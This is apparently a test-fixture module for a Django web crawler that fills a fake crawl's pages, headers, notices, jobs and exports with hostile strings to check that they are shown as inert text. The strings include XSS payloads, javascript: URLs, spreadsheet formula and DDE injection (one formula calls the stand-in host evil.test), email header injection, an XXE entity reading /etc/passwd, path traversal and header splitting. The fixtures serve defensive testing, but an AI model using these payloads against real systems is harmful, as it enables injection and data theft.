"""A crawl of a site that attacks those who look at what was found: every text a stranger writes holds something that
some reader of it would take for more than text."""

from collections.abc import Mapping
from datetime import timedelta
from typing import Any

from django.contrib.auth.models import Group, User
from django.utils import timezone
from redis import Redis
from rq.job import Job, JobStatus
from rq.registry import FailedJobRegistry
from rq.results import Result

from crawler.core.html import link_codec
from crawler.core.options.catalogue import CrawlOptions
from crawler.core.pages.content_formats import FORMS
from crawler.core.protocol import counters as recently
from crawler.models import (
    ApiToken,
    Channel,
    Crawl,
    Delivery,
    Disagreement,
    Notice,
    Page,
    PageFacts,
    PageLinks,
    PageLoad,
    Schedule,
    Trap,
)
from crawler.storage.content import warc
from crawler.storage.content.objects import packed
from crawler.storage.content.shelf import Shelf, named
from tests.factories import make_page

MARK = "Zq7"
"""Stands in every one of these texts, so that a test can tell that it looked at what was planted."""

ELSEWHERE = "evil.test"
"""Where nothing of ours may lead by itself."""

TEXTS: dict[str, str] = {
    # what it attacks: what is written
    "html": f"{MARK}<script>window.__pwned=1</script><img src=//{ELSEWHERE}/i onerror=window.__pwned=1>"
    "<svg onload=window.__pwned=1>",
    "attribute": f'{MARK}"><img src=x onerror=window.__pwned=1>" autofocus onfocus=window.__pwned=1 '
    f'hx-get=//{ELSEWHERE}/ x="',
    "quoted": f"{MARK}'><img src=x onerror=window.__pwned=1>' onmouseover='window.__pwned=1' style='color:red' x='",
    "unquoted": f"{MARK} onmouseover=window.__pwned=1 `><b>\x0conclick=window.__pwned=1",
    "script": f"{MARK}</script><script>window.__pwned=1</script><!--<script>\u2028window.__pwned=1//\u2029*/",
    "elements": f"{MARK}</title></textarea></style></noscript></template></pre></svg>"
    f"<base href=//{ELSEWHERE}/><meta http-equiv=refresh content=0>",
    "style": f"{MARK}</style><style>*{{background:url(//{ELSEWHERE}/c)}}</style>;background:url(//{ELSEWHERE}/c)",
    "template": f"{MARK}{{{{ 7|add:7 }}}}{{% debug %}}${{7*7}}#{{7*7}}<%= 7*7 %>",
    "formula": f'=HYPERLINK("http://{ELSEWHERE}/?{MARK}";"x")',
    "plus": f"+cmd|' /C {MARK}'!A0",
    "minus": f"-2+3+{MARK}",
    "at": f"@SUM({MARK})",
    "tab": f"\t={MARK}",
    "return": f"\r={MARK}",
    "blank": f" \u00a0\ufeff={MARK}",
    "wide": f"\uff1d{MARK}",
    "cells": f'{MARK};=1+{MARK};"=2+{MARK}"\t=3+{MARK}\t\'@{MARK}\r\n=4+{MARK},=5+{MARK},"=6+{MARK}',
    "chat": f"{MARK}<!channel> <@U1> <http://{ELSEWHERE}|x> @everyone <@&1> "
    "[x](javascript:window.__pwned=1) **b** `c` ||d||",
    "mail": f"{MARK}\r\nBcc: victim@{ELSEWHERE}\r\n\r\nanother body\r\n.\r\n",
    "terminal": f"{MARK}\x1b]0;title\x07\x1b[2J\x1b[31m\x08\x7f\x9b31m\u202elive\u2066\u200f\ufeff",
    "lines": f"{MARK}\n2026-01-01 00:00:00,000 ERROR crawler: forged\r{MARK}\x85{MARK}\u2028{MARK}",
    "events": f"{MARK}\n\nevent: finished\nid: 9\ndata: {{}}\n\n",
    "xml": f"{MARK}]]></data></node><node id='evil'/>&evil;<!DOCTYPE x [<!ENTITY evil SYSTEM 'file:///etc/passwd'>]>\x01\x0b\ufffe",
    "label": f'{MARK}"}} 1\nforged_metric{{x="\\',
    "path": f"../../../{MARK}/etc/passwd\\..\\..\\con:stream|x",
    "header": f"{MARK}.csv\"; filename*=UTF-8''evil.html\r\nSet-Cookie: a=b\r\n\r\n",
    "lookalike": f"{MARK} \u0430pple.com \u200b\u200d\U000e0041\U0001f600",
}

ADDRESSES = [
    f"javascript:window.__pwned=1//{MARK}",
    f"java\tscript\n:window.__pwned=1//{MARK}",
    f"\x01 javascript:window.__pwned=1//{MARK}",
    f"JaVaScRiPt://{ELSEWHERE}/%0awindow.__pwned=1//{MARK}",
    f"data:text/html,<script>window.__pwned=1</script>{MARK}",
    f"vbscript:msgbox(1)//{MARK}",
    f"file:///etc/passwd?{MARK}",
    f"blob:http://{ELSEWHERE}/{MARK}",
    f"//{ELSEWHERE}/{MARK}",
]
"""In the place of a page's URL: what may not be clickable."""

EVERYTHING = " ".join(TEXTS.values())
SITE = f"http://{ELSEWHERE}/"
RULE = {"name": TEXTS["html"], "selector": "h1"}


def an_evil_crawl(owner: User, **fields: Any) -> Crawl:
    """It is over: of each text a page that answered, of some one that did not, with links to each other, and whatever
    else belongs to a crawl."""
    now = timezone.now()
    names = [*TEXTS.values(), *ADDRESSES]
    failed = names[::3]
    values: dict[str, Any] = {
        "state": "finished",
        "start_urls": [SITE + TEXTS["html"], SITE + TEXTS["attribute"], ADDRESSES[0]],
        "options": CrawlOptions(keep=tuple(FORMS), sitemaps=True, externals="check", render="auto").to_plain()
        | {"fields": [RULE]},
        "source": TEXTS["quoted"],
        "source_report": _list_report(),
        "created_at": now - timedelta(seconds=9),
        "finished_at": now,
        "outcomes": {"2xx": len(names), "dns": len(failed)},
        "statuses": {"200": len(names)},
        "discovered": len(names) + len(failed),
        **fields,
    }
    crawl = Crawl.objects.create(owner=owner, **values)
    trap = Trap.objects.create(
        crawl=crawl, key=b"0" * 16, reason="repeated", pattern=TEXTS["html"], pages=9, quarantined=9
    )
    pages = [_answered(crawl, place, text) for place, text in enumerate(names)]
    pages += [_failed(crawl, place, text, pages[0]) for place, text in enumerate(failed)]
    _link(crawl, pages, names)
    _keep_facts(crawl, pages[: len(names)], names)
    _keep_loads(crawl, pages[: len(names)], names)
    Page.objects.filter(pk__in=[page.pk for page in pages[-4:]]).update(trap_id=trap.pk, outcome="trap", given_up=False)
    recent = [page.pk for page in pages[: recently.RECENT_PAGES]]
    Crawl.objects.filter(pk=crawl.pk).update(recent={"closed": recent, "troubled": recent})
    _tell(crawl, owner)
    crawl.refresh_from_db()
    return crawl


def _answered(crawl: Crawl, place: int, text: str) -> Page:
    """Some of them under an address that none could be fetched from, as if all else had failed."""
    status, kind = (301, "page") if place % 5 == 4 else (404, "external") if place % 5 == 3 else (200, "page")
    return make_page(
        crawl,
        text if text in ADDRESSES else f"{SITE}{place}/{text}",
        status=Page.CLOSED,
        outcome=f"{status // 100}xx",
        http_status=status,
        kind=kind,
        content_type="text/html" if place % 2 == 0 else "".join(text.split())[:100],
        title=text,
        redirect_to=text if text in ADDRESSES else SITE + text,
        directives=text,
        rel=text[:40],
        lastmod=text[:40],
        meta={text: text},
        in_sitemap=True,
        linked=place % 3 != 0,
        error=text if status == 404 else "",
        bytes=10**6 * place,
        elapsed_ms=place * 100,
        fetched_at=timezone.now(),
    )


def _failed(crawl: Crawl, place: int, text: str, parent: Page) -> Page:
    return make_page(
        crawl,
        f"https://xn--{place}.{ELSEWHERE}/failed/{text}",
        status=Page.CLOSED,
        outcome="dns",
        error=text,
        given_up=True,
        attempts=3,
        depth=1,
        parent_id=parent.pk,
        rel=text[:40],
    )


def _link(crawl: Crawl, pages: list[Page], texts: list[str]) -> None:
    """Each to all of them, with words and rel of its own."""
    urls = [page.url for page in pages]
    words = [texts[place % len(texts)] for place in range(len(urls))]
    rels = dict(zip(urls, words, strict=True))
    links = link_codec.Occurrences.once(urls, words, rels)
    rows = [
        PageLinks(
            page_id=page.pk, crawl=crawl, keys=link_codec.keys(urls), packed=link_codec.packed(urls, links, page.url)
        )
        for page in pages[:6]
    ]
    PageLinks.objects.bulk_create(rows)


def _keep_facts(crawl: Crawl, pages: list[Page], texts: list[str]) -> None:
    kept = _kept(crawl, texts)
    PageFacts.objects.bulk_create(
        PageFacts(
            page_id=page.pk,
            crawl=crawl,
            headers=f"ETag: {text}\n{text}: x\nServer: {text}",
            description=text,
            h1=text,
            h1_count=2,
            canonical=text if text in ADDRESSES else SITE + text,
            canonicals=2,
            digest=b"1" * 16,
            sketch=b"1" * 8,
            words=100,
            insecure=[text, f"http://{ELSEWHERE}/{text}"],
            malformed={"number": 1, "links": [dict.fromkeys(("written", "text", "rel", "problem"), text)]},
            fields={RULE["name"]: [text, {text: text}]},
            notes={RULE["name"]: text},
            kept=kept if page is pages[0] else dict.fromkeys(FORMS, text),
        )
        for page, text in zip(pages, texts, strict=True)
    )


def _keep_loads(crawl: Crawl, pages: list[Page], texts: list[str]) -> None:
    PageLoad.objects.bulk_create(
        PageLoad(
            page_id=page.pk,
            crawl=crawl,
            console_errors=1,
            failed_requests=1,
            console=[text],
            requests=[{"url": text, "kind": text, "error": text, "problem": "failed"}],
        )
        for page, text in zip(pages, texts, strict=True)
    )


def _kept(crawl: Crawl, texts: list[str]) -> Mapping[str, Any]:
    """The content of the first page."""
    whole = "\n".join(texts).encode()
    headers = [(f"X-{MARK}", TEXTS["html"]), ("Content-Type", "text/html")]
    record = warc.exchange(f"{SITE}0/", 1.0, ("GET / HTTP/1.1", headers), ("HTTP/1.1 200 OK", headers), whole)
    pictures = {"screenshot": packed(b"RIFF" + whole), "pdf": packed(b"%PDF-" + whole)}
    shelf = Shelf(str(crawl.pk), "batch")
    places = shelf.put({**dict.fromkeys(("html", "text", "markdown"), packed(whole)), "warc": record, **pictures})
    return named(places, shelf.clear())


def _list_report() -> dict[str, Any]:
    examples = [{"line": place, "text": text, "why": text} for place, text in enumerate(TEXTS.values())]
    return {"lines": 99, "taken": 9, "duplicates": 1, "invalid": len(examples), "examples": examples}


def _tell(crawl: Crawl, owner: User) -> None:
    """Notices, a schedule, and whatever else has words of strangers or of other people in it."""
    text = TEXTS["html"]
    notice = Notice.objects.create(crawl=crawl, event="crawl.finished", receipt={})
    now = timezone.now()
    for place, (state, said) in enumerate(zip(("pending", "delivered", "given_up") * 20, TEXTS.values(), strict=False)):
        Delivery.objects.create(
            notice=notice,
            transport="email",
            address=f"{place}@{said}",
            state=state,
            error=said,
            answer=said,
            tried_at=now,
        )
    for said in TEXTS.values():
        Disagreement.objects.create(crawl=crawl, what=said)
    group = Group.objects.create(name=f"{text} {crawl.pk}"[:150])
    owner.groups.add(group)
    Schedule.objects.create(
        start_urls=[SITE + text], options=crawl.options, rule="every 6h", owner=owner, next_at=now, last_error=text
    )
    Channel.objects.create(owner=owner, name=text[:80], transport="email", address=f"x@{text}")
    ApiToken.objects.create(user=owner, name=text[:100], digest=str(crawl.pk), shown=text[:16], scopes=[])
    Crawl.objects.filter(pk=crawl.pk).update(group=group)


def a_failed_job(redis: Redis) -> Job:
    """In whose error, words and values a site has written."""
    job = Job.create("crawler.jobs.watch", args=(EVERYTHING,), description=EVERYTHING, connection=redis, origin="crawl")
    job.meta = {EVERYTHING: EVERYTHING}
    job.save()
    job.set_status(JobStatus.FAILED)
    FailedJobRegistry("crawl", connection=redis).add(job, exc_string=EVERYTHING)
    Result.create_failure(job, 600, EVERYTHING)
    return job
